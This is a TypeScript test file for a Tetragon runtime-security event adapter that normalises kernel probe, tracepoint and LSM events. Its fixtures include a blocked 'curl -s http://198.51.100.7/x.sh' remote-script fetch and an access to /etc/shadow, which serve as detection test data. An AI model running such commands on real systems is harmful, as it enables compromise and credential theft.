import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createToolAdapter } from './tool-adapter.js';
import { tetragonAction } from './tetragon.adapter.js';

const lines = readFileSync(
  new URL('../../../../test/fixtures/events/tetragon.jsonl', import.meta.url),
  'utf8',
)
  .split('\n')
  .filter((line) => line.length > 0);

function adaptAll(input: string[] = lines) {
  const adapter = createToolAdapter('tetragon');
  return input.map((line) => adapter.adaptLine(line));
}

describe('tetragon adapter', () => {
  it('maps process_exec, process_exit and unmapped types to no event', () => {
    const results = adaptAll();
    for (const index of [0, 6, 7]) expect(results[index]).toEqual({ ok: true, event: null });
  });

  it('maps a SIGKILL kprobe on a syscall function', () => {
    const result = adaptAll()[1];
    expect(result.ok).toBe(true);
    if (!result.ok || result.event === null) throw new Error('expected an event');
    const { raw, eventKey, details, ...event } = result.event;
    expect(event).toEqual({
      observedAt: '2026-03-02T09:15:12.987654Z',
      host: 'worker-eu-3',
      source: 'tetragon',
      kind: 'runtime',
      action: 'sigkill',
      blocked: true,
      signal: { nr: 9, name: 'SIGKILL' },
      policy: 'deny-setuid',
      process: {
        pid: 4217,
        tid: 4217,
        ppid: 4100,
        uid: 1001,
        gid: 1001,
        auid: 4294967295,
        exe: '/usr/bin/curl',
        cmdline: '/usr/bin/curl -s http://198.51.100.7/x.sh',
      },
      container: {
        id: '4f1c2a9e0b7d4c3e8a6f5b2d1c0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e',
        name: 'ledger',
        image: 'registry.example.net/ledger:2.4.1',
        pod: 'ledger-7d9f8c6b5-x2kqp',
        namespace: 'payments',
      },
      syscall: { arch: 'x86_64', name: 'setuid' },
    });
    expect(eventKey).toMatch(/^tetragon:[0-9a-f]{40}$/);
    expect(raw).toBe(lines[1]);
    expect(details).toMatchObject({
      type: 'process_kprobe',
      functionName: '__x64_sys_setuid',
      workload: 'ledger',
    });
  });

  it('maps POST to a non-blocking alert and keeps 64-bit string arguments in details', () => {
    const result = adaptAll()[2];
    if (!result.ok || result.event === null) throw new Error('expected an event');
    expect(result.event.action).toBe('alert');
    expect(result.event.blocked).toBe(false);
    expect(result.event.syscall).toBeUndefined();
    expect(result.event.observedAt).toBe('2026-03-02T09:15:13.000001Z');
    expect(result.event.details?.args).toEqual([
      { file_arg: { path: '/etc/shadow', permission: '-rw-r-----' } },
      { int_arg: 4 },
      { size_arg: '18446744073709551615' },
    ]);
  });

  it('fills cmdline and ppid of a reduced process from the exec cache', () => {
    const result = adaptAll()[3];
    if (!result.ok || result.event === null) throw new Error('expected an event');
    expect(result.event.action).toBe('override');
    expect(result.event.process).toEqual({
      pid: 4217,
      ppid: 4100,
      exe: '/usr/bin/curl',
      cmdline: '/usr/bin/curl -s http://198.51.100.7/x.sh',
    });
    expect(result.event.syscall).toEqual({ arch: 'aarch64', name: 'unshare' });
    // Without the exec first, only what the event itself says.
    const alone = createToolAdapter('tetragon').adaptLine(lines[3]);
    expect(alone.ok && alone.event?.process).toEqual({ pid: 4217 });
  });

  it('maps tracepoints and LSM hooks', () => {
    const results = adaptAll();
    const tracepoint = results[4];
    const lsm = results[5];
    if (!tracepoint.ok || tracepoint.event === null || !lsm.ok || lsm.event === null)
      throw new Error('expected events');
    expect(tracepoint.event).toMatchObject({ action: 'signal', blocked: true, syscall: { name: 'ptrace' } });
    expect(tracepoint.event.details).toMatchObject({ subsys: 'syscalls', message: 'ptrace attach' });
    expect(lsm.event).toMatchObject({
      action: 'alert',
      policy: 'lsm-exec',
      observedAt: '2026-03-02T07:15:16.000000Z',
    });
  });

  it('reads the syscall of a bare sys_ hook and the number of a raw_syscalls tracepoint', () => {
    const adapter = createToolAdapter('tetragon');
    const kprobe = JSON.parse(lines[1]) as { process_kprobe: Record<string, unknown> };
    kprobe.process_kprobe.function_name = 'sys_mount';
    const bare = adapter.adapt(kprobe);
    expect(bare.ok && bare.event?.syscall).toEqual({ name: 'mount' });
    const tracepoint = JSON.parse(lines[4]) as { process_tracepoint: Record<string, unknown> };
    Object.assign(tracepoint.process_tracepoint, {
      subsys: 'raw_syscalls',
      event: 'sys_enter',
      args: [{ long_arg: '101' }],
    });
    const raw = adapter.adapt(tracepoint);
    expect(raw.ok && raw.event?.syscall).toEqual({ nr: 101 });
    Object.assign(tracepoint.process_tracepoint, { args: [{ long_arg: 'x' }] });
    const garbage = adapter.adapt(tracepoint);
    expect(garbage.ok && garbage.event?.syscall).toBeUndefined();
  });

  it('maps every KprobeAction spelling', () => {
    expect(tetragonAction('KPROBE_ACTION_SIGKILL')).toBe('sigkill');
    expect(tetragonAction('KPROBE_ACTION_OVERRIDE')).toBe('override');
    expect(tetragonAction('KPROBE_ACTION_SIGNAL')).toBe('signal');
    expect(tetragonAction('SIGNAL')).toBe('signal');
    expect(tetragonAction('KPROBE_ACTION_NOTIFYENFORCER')).toBe('alert');
    expect(tetragonAction('KPROBE_ACTION_FOLLOWFD')).toBe('alert');
    expect(tetragonAction(3)).toBe('sigkill');
    expect(tetragonAction(undefined)).toBe('alert');
    expect(tetragonAction({})).toBe('alert');
  });

  it('gives the same key to the same event however its keys are ordered', () => {
    const adapter = createToolAdapter('tetragon');
    const json = JSON.parse(lines[1]) as Record<string, unknown>;
    const reordered = Object.fromEntries(Object.entries(json).reverse());
    const a = adapter.adapt(json);
    const b = adapter.adapt(reordered);
    expect(a.ok && b.ok && a.event?.eventKey === b.event?.eventKey).toBe(true);
  });

  it('uses the host option only when the event names no node, unless forced', () => {
    const json = JSON.parse(lines[1]) as Record<string, unknown>;
    delete json.node_name;
    expect(createToolAdapter('tetragon').adapt(json)).toEqual({
      ok: false,
      error: { code: 'no_host', message: expect.any(String) },
    });
    const fallback = createToolAdapter('tetragon', { host: 'enrolled-1' }).adaptLine(lines[1]);
    expect(fallback.ok && fallback.event?.host).toBe('worker-eu-3');
    const forced = createToolAdapter('tetragon', { host: 'enrolled-1', forceHost: true }).adaptLine(lines[1]);
    expect(forced.ok && forced.event?.host).toBe('enrolled-1');
  });

  it('returns typed errors for broken events', () => {
    const adapter = createToolAdapter('tetragon', { host: 'h' });
    const kprobe = JSON.parse(lines[1]) as { process_kprobe: Record<string, unknown>; time?: unknown };
    const cases: [unknown, string][] = [
      [{}, 'unknown_event_type'],
      [{ node_name: 'n', time: '2026-03-02T09:15:12Z' }, 'unknown_event_type'],
      [{ process_kprobe: {}, time: '2026-03-02T09:15:12Z' }, 'missing_field'],
      [{ process_kprobe: kprobe.process_kprobe }, 'missing_field'],
      [{ process_kprobe: kprobe.process_kprobe, time: 'noon' }, 'invalid_field'],
      [{ process_kprobe: kprobe.process_kprobe, time: 12 }, 'missing_field'],
      [[kprobe], 'not_an_object'],
      [null, 'not_an_object'],
    ];
    for (const [input, code] of cases) {
      const result = adapter.adapt(input);
      expect(result.ok ? 'ok' : result.error.code, JSON.stringify(input).slice(0, 80)).toBe(code);
    }
  });

  it('survives nulls and wrong types in every field of a kprobe', () => {
    const adapter = createToolAdapter('tetragon', { host: 'h' });
    const broken = {
      process_kprobe: {
        process: { exec_id: null, pid: 'many', uid: -5, binary: 7, arguments: null, pod: 'x' },
        parent: [],
        function_name: null,
        args: 'none',
        action: null,
        policy_name: { a: 1 },
      },
      node_name: null,
      time: '2026-03-02T09:15:12Z',
    };
    const result = adapter.adapt(broken);
    expect(result.ok).toBe(true);
    if (result.ok) expect(result.event).toMatchObject({ host: 'h', action: 'alert', kind: 'runtime' });
  });
});
